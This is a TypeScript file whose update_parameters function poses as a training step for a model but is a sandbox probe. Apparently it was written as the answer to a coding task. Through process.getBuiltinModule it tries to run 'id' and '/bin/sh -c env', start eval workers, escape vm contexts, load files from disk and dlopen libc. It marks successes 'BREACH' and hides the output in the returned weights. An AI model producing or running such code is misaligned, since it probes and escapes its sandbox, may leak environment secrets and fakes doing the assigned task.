// Reading what is loaded, and what can be loaded: every dangerous built-in through
// process.getBuiltinModule: child_process (running a command is the end of any sandbox),
// worker_threads (a worker from a string), vm (code from strings in a new context), module
// (createRequire to load files from disk), wasi, process.dlopen (native addons).
const g: any = globalThis;
const P: any = g.process;
const REPO = "@@REPO@@";

export function update_parameters(params: any, grads: any, learning_rate: number): any {
  const outcome: string[] = [];
  const attempt = (name: string, breach: boolean, f: () => unknown) => {
    try {
      const r = f();
      outcome.push(`${breach ? "BREACH: " : ""}${name}: ${String(r).slice(0, 80)}`);
    } catch (e) {
      outcome.push(`${name}: ${String(e).slice(0, 60)}`);
    }
  };
  const get = (name: string) => P.getBuiltinModule(name);
  attempt("child_process.execFileSync id", true, () => get("node:child_process").execFileSync("id", { encoding: "utf8" }));
  attempt("child_process.spawnSync sh", true, () => get("node:child_process").spawnSync("/bin/sh", ["-c", "echo ran; env"], { encoding: "utf8" }).stdout);
  attempt("worker_threads eval", true, () => new (get("node:worker_threads").Worker)("1", { eval: true }) && "worker started");
  attempt("vm.runInNewContext", false, () => get("node:vm").runInNewContext("this.constructor.constructor('return typeof process')()"));
  attempt("vm.compileFunction", false, () => get("node:vm").compileFunction("return 6 * 7")());
  attempt("module.createRequire", true, () => get("node:module").createRequire(`${REPO}/package.json`)(`${REPO}/package.json`).name);
  attempt("wasi", false, () => typeof new (get("node:wasi").WASI)({ version: "preview1" }));
  attempt("process.dlopen", true, () => P.dlopen({ exports: {} }, "/usr/lib/x86_64-linux-gnu/libc.so.6"));
  attempt("process.binding spawn_sync", true, () => typeof P.binding("spawn_sync").spawn);
  attempt("process._linkedBinding", false, () => typeof P._linkedBinding("fs"));
  attempt("os.userInfo", false, () => JSON.stringify(get("node:os").userInfo()));
  attempt("os.networkInterfaces", false, () => Object.keys(get("node:os").networkInterfaces()).join(","));
  return { W1: `builtin-modules: ${outcome.join("; ")}` };
}
